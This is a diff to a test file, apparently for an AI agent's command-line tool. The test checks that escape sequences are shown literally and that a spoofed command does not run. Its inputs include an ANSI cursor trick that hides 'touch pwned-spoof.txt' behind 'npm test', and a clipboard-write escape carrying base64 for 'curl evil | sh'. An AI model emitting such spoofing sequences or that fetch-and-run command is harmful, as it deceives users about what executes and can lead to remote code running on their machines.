@@ -100,7 +100,7 @@ describe('the terminal shows what runs', () => {
     const spoof = 'touch pwned-spoof.txt #\u001b[23D\u001b[K npm test';
     const { root, base } = await setup([
       { text: 'Copying \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 done', toolCalls: [{ name: 'run_command', arguments: { command: spoof } }] },
-      { toolCalls: [{ name: 'run_command', arguments: { command: 'echo one\necho two' } }] },
+      { toolCalls: [{ name: 'run_command', arguments: { command: 'touch one\ntouch two' } }] },
       finish,
     ]);
     const result = await runCliOnTerminal([...base, 'x'], ['n', 'n']);
@@ -109,7 +109,7 @@ describe('the terminal shows what runs', () => {
     assert.ok(!result.stdout.includes('\u0007'));
     assert.match(result.stdout, /\$ touch pwned-spoof\.txt #\\x1b\[23D\\x1b\[K npm test/);
     assert.match(result.stdout, /\\x1b\]52;c;/);
-    assert.match(result.stdout, /\$ echo one\n\s+\$ echo two/);
+    assert.match(result.stdout, /\$ touch one\n\s+\$ touch two/);
     assert.match(result.stdout, /Allow\? /);
     assert.equal(fs.existsSync(path.join(root, 'pwned-spoof.txt')), false);
   });
